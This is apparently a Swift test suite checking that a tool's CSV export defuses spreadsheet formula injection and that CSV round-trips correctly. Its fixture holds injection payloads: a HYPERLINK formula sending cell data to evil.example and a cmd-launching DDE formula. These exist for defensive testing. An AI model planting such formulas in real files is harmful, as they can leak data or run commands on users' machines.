import Foundation
import Testing

/// `export --format csv` is safe to open in a spreadsheet, `--raw` writes cells as stored, and
/// `import --format csv` (with `--raw` for a raw file) reads either back to the same items.
@Suite struct CSVRoundTripTests {
  static let hostile = """
    {"ref":"evil","title":"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")","note":"'already quoted","added_at":"2026-01-01T00:00:00Z"}
    {"ref":"+sum","title":"@SUM(1+1)*cmd|' /C calc'!A0","note":"-2+3","added_at":"2026-01-02T00:00:00Z"}
    {"ref":"tab","title":"\\tindented","note":"\\rreturn, \\"quoted\\"\\nand a line","added_at":"2026-01-03T00:00:00Z"}
    {"ref":"plain","title":"Plain, with a comma","added_at":"2026-01-04T00:00:00Z"}

    """

  /// The sandbox with the hostile favorites and every list's fixtures.
  static func filled() async throws -> Sandbox {
    let sandbox = try Sandbox()
    await Fixtures.addEverything(to: sandbox)
    let imported = await sandbox.run(["import", "favorites", "-"], stdin: Array(hostile.utf8))
    #expect(imported.exitCode == 0, "\(imported)")
    return sandbox
  }

  @Test func noExportedCellBeginsLikeAFormula() async throws {
    let sandbox = try await Self.filled()
    for list in ["favorites", "addresses", "orders"] {
      let csv = await sandbox.run("export", list, "--format", "csv")
      #expect(csv.exitCode == 0, "\(csv)")
      // Every cell, quoted or not, as a spreadsheet sees it.
      var reader = CSVRecordCells(csv.stdout)
      while let cell = reader.next() {
        #expect(!"=+-@\t\r".contains(cell.first ?? "x"), "\(list): \(cell.debugDescription)")
      }
    }
    let favorites = await sandbox.run("export", "favorites", "--format", "csv")
    #expect(favorites.stdout.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""))
  }

  @Test func rawWritesEveryCellAsStored() async throws {
    let sandbox = try await Self.filled()
    let raw = await sandbox.run("export", "favorites", "--format", "csv", "--raw")
    #expect(raw.exitCode == 0, "\(raw)")
    #expect(raw.stdout.contains("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""))
    #expect(raw.stdout.contains(",-2+3,"))
  }

  @Test(arguments: ["favorites", "addresses", "orders"], [false, true])
  func importReadsBothFormsBackUnchanged(list: String, raw: Bool) async throws {
    let sandbox = try await Self.filled()
    let flags = raw ? ["--raw"] : []
    let csv = await sandbox.run(["export", list, "--format", "csv"] + flags)
    #expect(csv.exitCode == 0, "\(csv)")
    let copy = sandbox.path("copy.db")
    let imported = await sandbox.run(
      ["--db", copy, "import", list, "-", "--format", "csv"] + flags, stdin: csv.stdoutBytes)
    #expect(imported.exitCode == 0, "\(imported)")
    let original = await sandbox.run("export", list)
    let again = await sandbox.run("--db", copy, "export", list)
    #expect(again.exitCode == 0)
    // The ids are new; everything else is the same.
    #expect(Self.withoutIDs(again.stdoutLines) == Self.withoutIDs(original.stdoutLines))
    #expect(!original.stdoutLines.isEmpty)
  }

  @Test func rawGoesWithCSVOnly() async throws {
    let sandbox = try await Self.filled()
    let export = await sandbox.run("export", "orders", "--raw")
    #expect(export.exitCode == 64)
    #expect(export.stderrLines.first == "Error: --raw goes with --format csv.")
    let before = sandbox.bytes(sandbox.databasePath)
    let imported = await sandbox.run(["import", "orders", "-", "--raw"], stdin: [])
    #expect(imported.exitCode == 64)
    #expect(sandbox.bytes(sandbox.databasePath) == before)
  }

  @Test(
    arguments: [
      ("ref,title\nr,\"open\n", "Error: Line 2: not valid CSV: a quoted field is never closed. Nothing was imported."),
      ("ref,title\nr,t,extra\n", "Error: Line 2: the record has 3 fields and the header 2. Nothing was imported."),
      ("ref,titel\nr,t\n", "Error: Line 2: Unknown field 'titel'. Did you mean 'title'? Nothing was imported."),
      ("ref,ref\nr,t\n", "Error: Line 1: the header names 'ref' twice. Nothing was imported."),
    ] as [(String, String)])
  func aBadCSVFileIsOneLineAndImportsNothing(text: String, line: String) async throws {
    let sandbox = try await Self.filled()
    let before = sandbox.bytes(sandbox.databasePath)
    let result = await sandbox.run(
      ["import", "favorites", "-", "--format", "csv"], stdin: Array(text.utf8))
    #expect(result.exitCode == 65, "\(result)")
    #expect(result.stderr == line + "\n")
    #expect(sandbox.bytes(sandbox.databasePath) == before)
  }

  static func withoutIDs(_ lines: [String]) -> [String] {
    lines.map { line in
      guard let comma = line.firstIndex(of: ",") else { return line }
      return String(line[comma...])
    }
  }
}

/// The cells of a CSV text, unquoted, as a spreadsheet would read them; written apart from
/// the product's reader so the test does not check the reader with itself.
struct CSVRecordCells {
  private var characters: [Character]
  private var index = 0

  init(_ text: String) { characters = Array(text) }

  mutating func next() -> String? {
    guard index < characters.count else { return nil }
    var cell = ""
    if characters[index] == "\"" {
      index += 1
      while index < characters.count {
        if characters[index] == "\"" {
          if index + 1 < characters.count && characters[index + 1] == "\"" {
            cell.append("\"")
            index += 2
            continue
          }
          index += 1
          break
        }
        cell.append(characters[index])
        index += 1
      }
    } else {
      while index < characters.count && characters[index] != "," && characters[index] != "\r\n"
        && characters[index] != "\n"
      {
        cell.append(characters[index])
        index += 1
      }
    }
    if index < characters.count { index += 1 }  // the separator or the line end
    return cell
  }
}
